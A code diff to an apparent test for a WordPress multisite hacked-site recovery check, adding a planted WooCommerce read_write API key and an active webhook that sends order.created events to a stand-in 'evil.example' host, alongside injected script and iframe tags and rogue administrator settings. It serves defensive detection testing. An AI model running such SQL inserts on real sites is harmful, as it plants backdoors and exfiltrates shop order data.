@@ -8,10 +8,11 @@
  * finds (review r110a MEDIUM-1), open sign-ups and a pending sign-up that makes an administrator of
  * site 2, a script in the network's site meta, and on site 2 an
  * administrator, an account with manage_options and no role, a role given
- * manage_options, default_role administrator and injected code in a post and
- * an option. Each must show in what the block prints. The block runs after
- * the two lines it takes from the blocks before it (SITE and P); those
- * blocks run whole in wordpress-security.
+ * manage_options, default_role administrator, injected code in a post and
+ * an option, and a shop's REST API key and webhook in its own WooCommerce
+ * tables (review r119a L5). Each must show in what the block prints. The block
+ * runs after the three lines it takes from the blocks before it (SITE, P and
+ * H); those blocks run whole in wordpress-security.
  */
 import {chownSync, mkdirSync, writeFileSync} from 'node:fs';
 import path from 'node:path';
@@ -22,7 +23,7 @@ import {replace, type Recipe, type RecipeContext} from './recipe';
 import {READER, run, tool} from './system';
 import {SITE, wordpressNamespace, type WordPressNamespace} from './wordpress';
 import {pristineSite, reinstallSite} from './wordpressBackup';
-import {CODE_FREE_CHECKS, LOADING_CHECKS} from './wordpressSecurity';
+import {CODE_FREE_CHECKS, LOADING_CHECKS, wooCommerceTables} from './wordpressSecurity';
 
 const RECOVERY = 'wordpress/hacked-site-recovery';
 export const MULTISITE_BLOCK: BlockRef = {
@@ -44,6 +45,8 @@ const PLANTED = {
   role: 'keeper',
   postScript: '<script src="https://cdn.example.net/s.js"></script>',
   option: 'shop_footer',
+  shopKey: 'Stock sync',
+  shopWebhook: {name: 'Stock feed', url: 'https://hooks.evil.example/stock'},
 };
 
 /** The network, made once per run from the installed site: its dump and a copy of its web root, restored for each run. */
@@ -87,6 +90,11 @@ function brokenIntoNetwork(ctx: RecipeContext, ns: WordPressNamespace): Promise<
         "UPDATE wp_2_options SET option_value = 'administrator' WHERE option_name = 'default_role'",
         `UPDATE wp_2_posts SET post_content = CONCAT(post_content, '${PLANTED.postScript}') WHERE ID = 1`,
         `INSERT INTO wp_2_options (option_name, option_value, autoload) VALUES ('${PLANTED.option}', '<iframe src="https://cdn.example.net/f"></iframe>', 'yes')`,
+        wooCommerceTables('wp_2_').replace(/;$/, ''),
+        `INSERT INTO wp_2_woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
+          SELECT ID, '${PLANTED.shopKey}', 'read_write', SHA2('ck_planted', 256), 'cs_planted', 'planted' FROM wp_users WHERE user_login = '${PLANTED.shopAdmin}'`,
+        `INSERT INTO wp_2_wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
+          SELECT 'active', '${PLANTED.shopWebhook.name}', ID, '${PLANTED.shopWebhook.url}', 'planted', 'order.created', 3 FROM wp_users WHERE user_login = '${PLANTED.shopAdmin}'`,
       ].join(';\n'),
       SITE.database,
     );
@@ -123,13 +131,13 @@ async function checkNetwork(ctx: RecipeContext) {
   const network = await brokenIntoNetwork(ctx, ns);
   const restore = () => reinstallSite(ws, ns, network.sql, network.publicFolder);
   const site = settingLine(ctx, CODE_FREE_CHECKS, /^cd \/ && SITE=\S+$/m);
-  const pattern = settingLine(ctx, LOADING_CHECKS, /^P='.*'$/m);
+  const pattern = `${settingLine(ctx, LOADING_CHECKS, /^P='.*'$/m)}\n${settingLine(ctx, LOADING_CHECKS, /^H='.*'$/m)}`;
   // The main block's gate sets left; 0 is what it leaves when nothing can put an old hash back (review r97b L6).
   const gate = 'left=0';
   ws.note(
     RECOVERY,
     'the same clean shell, after the block above',
-    `the block runs after "${site}", the P line of the blocks before it and the main block's ${gate}`,
+    `the block runs after "${site}", the P and H lines of the blocks before it and the main block's ${gate}`,
   );
   const block = ctx.block(MULTISITE_BLOCK).value;
   const hash = (login: string) => admin(ws, `SELECT user_pass FROM wp_users WHERE user_login = '${login}'`, SITE.database);
@@ -191,6 +199,12 @@ async function checkNetwork(ctx: RecipeContext) {
     hasRow(out, '1', 'post', 'publish', 'Hello world!') && hasRow(out, /\d+/, PLANTED.option),
     `the searches of site 2's tables find the script in its post 1 and the iframe in its option ${PLANTED.option}`,
     `the script in site 2's post 1 and the iframe in its option ${PLANTED.option}`,
+  );
+  expectShown(
+    hasRow(out, /\d+/, /\d+/, PLANTED.shopAdmin, PLANTED.shopKey, 'read_write', 'NULL') &&
+      hasRow(out, /\d+/, PLANTED.shopWebhook.name, 'active', PLANTED.shopWebhook.url, /\d+/, PLANTED.shopAdmin),
+    `site 2's WooCommerce tables show its API key "${PLANTED.shopKey}" and webhook "${PLANTED.shopWebhook.name}", each with ${PLANTED.shopAdmin} as owner`,
+    `site 2's API key "${PLANTED.shopKey}" and webhook "${PLANTED.shopWebhook.name}"`,
   );
   expectShown(
     new RegExp(`^#\\d+ "${PLANTED.role}" manage_options$`, 'm').test(out),
@@ -258,6 +272,17 @@ export const wordpressMultisiteRecipe: Recipe = {
       ref: MULTISITE_BLOCK,
       edit: replace("m.meta_key = 'wp_${B}_capabilities'", "m.meta_key = 'wp_capabilities'"),
       expect: /did not show site 2's administrator/,
+    },
+    {
+      what: "drop site 2's API keys and webhooks (review r119a L5)",
+      ref: MULTISITE_BLOCK,
+      // Each guarded query: its SHOW TABLES line and the query's two lines
+      edit: (text) =>
+        text.replace(
+          /^ {2}\[ -n "\$\(wp [^\n]*SHOW TABLES LIKE 'wp_\$\{B\}_(woocommerce_api_keys|wc_webhooks)'[^\n]*\n(?:[^\n]*\n){2}/gm,
+          '',
+        ),
+      expect: /did not show site 2's API key "Stock sync" and webhook "Stock feed"/,
     },
     {
       what: 'drop the B and U guard',
